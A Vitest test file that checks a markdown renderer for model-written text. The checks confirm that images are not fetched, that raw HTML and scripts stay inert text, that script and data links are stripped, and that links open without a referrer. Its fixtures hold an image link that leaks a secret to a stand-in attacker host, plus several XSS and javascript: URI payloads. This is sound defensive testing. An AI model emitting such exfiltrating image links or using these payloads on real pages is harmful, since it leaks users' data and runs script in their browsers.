// @vitest-environment jsdom
//! What a model writes is text: it fetches nothing, runs nothing, and its links lead away safely.

import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown.ts";

describe("markdown that a model wrote", () => {
  it("turns an image into a link, so that nothing is fetched", () => {
    const rendered = renderMarkdown("![chart](https://evil.example/?leak=secret)");
    expect(rendered.querySelector("img")).toBeNull();
    expect(rendered.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/?leak=secret");
    expect(rendered.textContent).toContain("chart");
  });

  it("shows raw HTML as the text that it is", () => {
    const rendered = renderMarkdown('<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n<b onclick=x>bold</b>');
    expect(rendered.querySelector("img, script, b, [onerror], [onclick]")).toBeNull();
    expect(rendered.textContent).toContain("<script>alert(2)</script>");
  });

  it("makes no link of a script or of data", () => {
    for (const href of ["javascript:alert(1)", "data:text/html,<p>x", "vbscript:x", "JaVaScRiPt:x"]) {
      const rendered = renderMarkdown(`[press](${href}) and [again]: ${href}`);
      expect(rendered.querySelector("a")?.getAttribute("href") ?? "").not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
    }
  });

  it("opens links elsewhere and tells them nothing", () => {
    const link = renderMarkdown("[docs](https://example.com)").querySelector("a");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  });
});
